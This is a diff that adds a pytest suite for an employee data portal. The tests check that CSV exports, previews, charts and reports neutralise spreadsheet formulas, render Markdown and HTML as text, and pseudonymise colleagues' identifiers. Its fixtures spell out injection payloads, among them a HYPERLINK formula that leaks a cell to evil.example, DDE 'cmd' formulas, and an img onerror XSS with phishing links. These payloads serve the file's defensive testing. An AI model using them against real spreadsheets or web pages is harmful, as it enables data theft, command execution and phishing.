@@ -1,0 +1,197 @@
+"""Output that cannot attack its reader: CSV cells a spreadsheet would run,
+text from one person rendered as Markdown or HTML for another, and
+colleagues' identifiers typed into free text."""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import shutil
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.csv as pacsv
+import pyarrow.parquet as pq
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from auth.principal import Role
+from portal import council_views as views
+from portal.plain import chart_frame, literal
+from queries.backend import Backend
+from queries.console import run_statement
+from queries.console_process import ConsoleLimits
+from queries.council import oversight
+from queries.csv_safe import csv_bytes
+from queries.deletion_requests import Move, Scope
+from queries.export import build_export
+from queries.inventory import inventory_for
+from queries.my_rows import my_rows
+from auth.policy import VIEW_OWN_TELEMETRY
+from tests.conftest import signed_in_claims, write_config
+from tests.test_my_data import principal_for
+from tests.test_pages import PORTAL
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+MARKDOWN = "[click me](http://evil.example/phish) ![](http://evil.example/pixel.png) <img src=x onerror=alert(1)> **bold**"
+HTML_NAME = '<a href="http://evil.example/phish">svc-reporting</a>'
+
+
+@pytest.fixture
+def lake(tmp_path, sample) -> Path:
+    copy = tmp_path / "lake"
+    shutil.copytree(sample, copy)
+    return copy
+
+
+def plant_notes(lake: Path, me, colleague) -> list[str]:
+    """A table of notes about me that mention a colleague in free text and
+    carry formula-like text a colleague could have sent me."""
+    notes = [f"loop in {colleague.email} ({colleague.employee_id}) on this", *FORMULAS,
+             f"nested mention {colleague.employee_id.lower()}"]
+    folder = lake / "warehouse" / "collab.db" / "planted_notes"
+    folder.mkdir(parents=True)
+    pq.write_table(pa.table({
+        "employee_id": [me.employee_id] * len(notes),
+        "note": notes,
+        "thread": [{"people": [colleague.email], "about": f"see {colleague.employee_id}"}] * len(notes),
+        "ts": pa.array([pd.Timestamp("2026-10-20 09:00")] * len(notes), pa.timestamp("us")),
+    }), folder / "part-0.parquet")
+    return notes
+
+
+@pytest.fixture
+def planted(tmp_path, lake, demo_users):
+    backend = Backend.open(write_config(tmp_path, lake))
+    me = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
+    colleague = backend.directory.by_id(demo_users["employee, heavy data"]["employee_id"])
+    notes = plant_notes(lake, me, colleague)
+    backend.refresh()
+    yield backend, me, colleague, notes
+    backend.close()
+
+
+def never_named(text: str, colleague) -> None:
+    assert colleague.email not in text and colleague.email.upper() not in text
+    assert colleague.employee_id not in text and colleague.employee_id.lower() not in text
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralized():
+    data, counts = csv_bytes(pa.table({"text": FORMULAS + ["plain", None], "n": [-1] * 6 + [2, 3]}))
+    cells = pacsv.read_csv(io.BytesIO(data)).column("text").to_pylist()
+    assert all(cell.startswith("'") for cell in cells[:6])
+    assert [cell[1:] for cell in cells[:6]] == FORMULAS
+    assert cells[6] == "plain" and counts == {"text": 6}
+    assert pacsv.read_csv(io.BytesIO(data)).column("n").to_pylist()[:2] == [-1, -1]
+
+
+def test_the_export_neutralizes_csv_keeps_parquet_exact_and_says_so(planted):
+    backend, me, colleague, notes = planted
+    inventory = inventory_for(backend, principal_for(me))
+    export = build_export(backend, principal_for(me), inventory)
+    archive = zipfile.ZipFile(io.BytesIO(export.data))
+    manifest = json.loads(archive.read("manifest.json"))
+    [table] = [t for t in manifest["tables"] if t["table"] == "collab.planted_notes"]
+    assert table["csv_cells_neutralized"] == {"note": len(FORMULAS)}
+    assert "OWASP" in manifest["csv_neutralization"]
+    csv_notes = pacsv.read_csv(io.BytesIO(archive.read("tables/collab.planted_notes.csv"))).column("note").to_pylist()
+    for cell in csv_notes:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    parquet_notes = pq.read_table(io.BytesIO(archive.read("tables/collab.planted_notes.parquet"))).column("note")
+    assert set(FORMULAS) <= set(parquet_notes.to_pylist())
+    for name in archive.namelist():
+        never_named(archive.read(name).decode("utf-8", errors="replace"), colleague)
+
+
+def test_colleagues_in_free_text_are_pseudonymized_in_previews(planted):
+    backend, me, colleague, notes = planted
+    entry = next(e for e in inventory_for(backend, principal_for(me)).entries if e.name == "collab.planted_notes")
+    [preview] = my_rows(backend, principal_for(me), VIEW_OWN_TELEMETRY, [entry], limit=50)
+    shown = json.dumps(preview.rows.to_pylist(), default=str)
+    never_named(shown, colleague)
+    assert "loop in colleague-" in shown and me.employee_id in shown
+
+
+def test_colleagues_in_free_text_are_pseudonymized_in_console_slices(planted):
+    backend, me, colleague, notes = planted
+    result = run_statement(backend, principal_for(me), "SELECT note, thread FROM collab.planted_notes",
+                           ConsoleLimits(timeout_s=10))
+    assert result.ok, result.error
+    shown = json.dumps(result.rows.to_pylist(), default=str)
+    never_named(shown, colleague)
+    assert len(set(re.findall(r"colleague-[0-9a-f]{10}", shown))) == 1, "one colleague, one pseudonym, everywhere"
+
+
+def test_a_deletion_reason_is_shown_to_the_officer_as_text(tmp_path, lake, monkeypatch, demo_users):
+    monkeypatch.setenv("PORTAL_CONFIG", str(write_config(tmp_path, lake)))
+    backend = Backend.open(write_config(tmp_path, lake))
+    employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
+    backend.requests.submit(principal_for(employee), Scope(True), MARKDOWN)
+    backend.close()
+    hr = AppTest.from_file(str(PORTAL / "pages" / "hr_queue.py"), default_timeout=60)
+    hr.user = signed_in_claims(demo_users["HR privacy officer"])
+    hr.run()
+    hr.selectbox[0].set_value(hr.selectbox[0].options[0]).run()
+    assert not hr.exception
+    assert MARKDOWN in [t.value for t in hr.text]
+    rendered = [m.value for m in hr.markdown] + [m.value for m in hr.caption]
+    assert not any("evil.example" in value for value in rendered)
+
+
+def test_an_officers_reason_is_shown_to_the_employee_as_text(tmp_path, lake, monkeypatch, demo_users):
+    monkeypatch.setenv("PORTAL_CONFIG", str(write_config(tmp_path, lake)))
+    backend = Backend.open(write_config(tmp_path, lake))
+    employee = backend.directory.by_id(demo_users["employee, median data"]["employee_id"])
+    officer = backend.directory.by_id(demo_users["HR privacy officer"]["employee_id"])
+    request = backend.requests.submit(principal_for(employee), Scope(True), "please")
+    backend.requests.transition(principal_for(officer, Role.HR), request.request_id, Move.EXTEND, MARKDOWN)
+    backend.requests.transition(principal_for(officer, Role.HR), request.request_id, Move.DENY, MARKDOWN)
+    backend.close()
+    at = AppTest.from_file(str(PORTAL / "pages" / "deletion.py"), default_timeout=60)
+    at.user = signed_in_claims(demo_users["employee, median data"])
+    at.run()
+    assert not at.exception
+    assert [t.value for t in at.text].count(MARKDOWN) == 2
+    rendered = [m.value for kind in ("markdown", "caption", "warning", "info", "error") for m in getattr(at, kind)]
+    assert not any("evil.example" in value for value in rendered)
+
+
+@pytest.mark.parametrize("attack", [MARKDOWN, HTML_NAME, "`code` _em_ # heading", "line\n# injected heading",
+                                    "a\\](http://evil.example)"])
+def test_literal_markdown_leaves_no_markup_active(attack):
+    escaped = literal(attack)
+    for mark in "[]()!<>`*_#":
+        assert all(escaped[i - 1] == "\\" for i, c in enumerate(escaped) if c == mark)
+    assert "\n" not in escaped
+
+
+def test_chart_labels_are_text_not_html():
+    figure = views.accesses_chart(pd.DataFrame({"month": ["2026-10"], "source": ["warehouse"],
+                                                "accessor group": [f"service account {HTML_NAME}"],
+                                                "accesses": [42]}))
+    labels = json.dumps(figure.to_plotly_json(), default=str)
+    assert "<a href" not in labels and "&lt;a href" in labels
+    assert chart_frame(pd.DataFrame({HTML_NAME: [HTML_NAME]})).to_dict() == \
+        {"&lt;a href=\"http://evil.example/phish\"&gt;svc-reporting&lt;/a&gt;":
+         {0: "&lt;a href=\"http://evil.example/phish\"&gt;svc-reporting&lt;/a&gt;"}}
+
+
+def test_a_service_account_named_in_html_stays_text_in_the_council_report(tmp_path, lake, demo_users):
+    log = lake / "audit" / "ranger_audit.jsonl"
+    events = [json.loads(line) for line in log.read_text().splitlines()]
+    service = [e for e in events if e.get("user_type") == "service"][:40]
+    assert service, "the sample has service-account reads"
+    with open(log, "a") as out:
+        for number, event in enumerate(service):
+            out.write(json.dumps({**event, "event_id": f"planted-{number}", "request_user": HTML_NAME}) + "\n")
+    backend = Backend.open(write_config(tmp_path, lake))
+    backend.refresh()
+    member = backend.directory.by_id(demo_users["works-council member"]["employee_id"])
+    html = views.report_html(oversight(backend, principal_for(member, Role.WORKS_COUNCIL)))
+    backend.close()
+    assert "svc-reporting" in html
+    assert 'href="http://evil.example' not in html and 'href=\\"http://evil.example' not in html
